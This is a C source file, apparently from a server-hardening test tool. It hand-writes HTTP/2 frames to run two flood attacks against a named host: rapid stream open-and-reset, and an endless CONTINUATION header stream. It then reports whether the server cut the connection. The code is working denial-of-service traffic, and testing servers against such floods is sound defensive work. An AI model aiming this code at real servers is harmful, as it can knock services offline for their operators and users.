/* HTTP/2 as it is misused: streams that are begun and taken back at once, and a head that never ends. The frames are
 * written here byte by byte (RFC 9113, section 4.1), since libraries do not misuse them. */
#include "edge.h"

enum {
    FRAME_HEADERS = 1,
    FRAME_RESET = 3,
    FRAME_SETTINGS = 4,
    FRAME_CONTINUATION = 9,
    ENDS_STREAM = 1,
    ENDS_HEAD = 4,
    STEP = 50,
    CONTINUED_BYTES = 1000,
};

static void put_frame(struct out *o, unsigned char type, unsigned char flags, uint32_t stream, struct str payload)
{
    out_char(o, (char)(payload.n >> 16));
    out_char(o, (char)(payload.n >> 8));
    out_char(o, (char)payload.n);
    out_char(o, (char)type);
    out_char(o, (char)flags);
    for (int shift = 24; shift >= 0; shift -= 8)
        out_char(o, (char)(stream >> shift));
    out_str(o, payload);
}

/* GET https://NAME/, each of the first three by its number in the table that both sides know. */
static struct str head_block(struct edge *e)
{
    struct str name = str_of(e->name);
    struct out o = out_make(e->arena);
    out_bytes(&o, "\x82\x87\x84\x41", 4);
    out_char(&o, (char)name.n);
    out_str(&o, name);
    return out_text(&o);
}

static bool greet(struct edge *e, struct line *line)
{
    struct out o = out_make(e->arena);
    if (!line_open(e, 0, line))
        return false;
    out_c(&o, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    put_frame(&o, FRAME_SETTINGS, 0, 0, S(""));
    return line_send(line, out_text(&o));
}

/* So many streams, each taken back at once; how many were sent before the other side had enough. */
static size_t reset_streams(struct edge *e, const struct line *line, size_t count)
{
    struct str head = head_block(e);
    size_t sent = 0;
    for (; sent < count && !line_is_closed(line); sent += STEP) {
        struct out o = out_make(e->arena);
        for (size_t i = sent; i < sent + STEP; i++) {
            uint32_t stream = (uint32_t)(2 * i + 1);
            put_frame(&o, FRAME_HEADERS, ENDS_STREAM | ENDS_HEAD, stream, head);
            put_frame(&o, FRAME_RESET, 0, stream, ((struct str){"\0\0\0\x08", 4}));
        }
        if (!line_send(line, out_text(&o)))
            break;
    }
    return sent;
}

/* One head, to which there is always more: a header without a name in the table, a hundred letters long. */
static size_t continue_head(struct edge *e, const struct line *line, size_t count)
{
    struct out more = out_make(e->arena);
    struct out o = out_make(e->arena);
    size_t sent = 0;
    while (out_text(&more).n < CONTINUED_BYTES) {
        out_bytes(&more, "\x00\x03x-a\x64", 6);
        for (int i = 0; i < 100; i++)
            out_char(&more, 'a');
    }
    put_frame(&o, FRAME_HEADERS, ENDS_STREAM, 1, head_block(e));
    if (!line_send(line, out_text(&o)))
        return 0;
    out_clear(&o);
    put_frame(&o, FRAME_CONTINUATION, 0, 1, out_text(&more));
    while (sent < count && !line_is_closed(line) && line_send(line, out_text(&o)))
        sent++;
    return sent;
}

int misuse(struct edge *e, struct str how, size_t count)
{
    struct line line;
    e->speaks_h2 = true;
    if (!greet(e, &line)) {
        tell(S("no connection"));
        return 1;
    }
    size_t sent = str_eq(how, S("reset")) ? reset_streams(e, &line, count) : continue_head(e, &line, count);
    bool is_closed = sent < count;
    if (!is_closed)
        (void)line_read(e, &line, 5000, &is_closed);
    tell(SAY(e->arena, is_closed ? "closed after " : "still open after ", sent));
    line_close(&line);
    return is_closed ? 0 : 1;
}
